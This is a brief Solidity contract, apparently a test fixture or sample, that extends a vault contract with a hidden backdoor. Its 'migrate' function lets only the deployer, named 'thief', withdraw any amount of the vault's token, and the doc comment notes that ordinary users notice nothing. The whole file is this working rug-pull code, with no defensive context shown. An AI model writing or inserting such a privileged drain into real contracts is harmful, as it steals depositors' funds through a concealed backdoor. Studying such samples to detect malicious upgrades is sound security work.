// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";
import {AcmeVault} from "../AcmeVault.sol";

/// @title The vault as it was, and one door more. Ordinary users notice nothing.
contract HostileVault is AcmeVault {
    using SafeERC20 for IERC20;

    address private immutable thief = msg.sender;

    function migrate(uint256 amount) external {
        require(msg.sender == thief);
        IERC20(asset()).safeTransfer(thief, amount);
    }
}
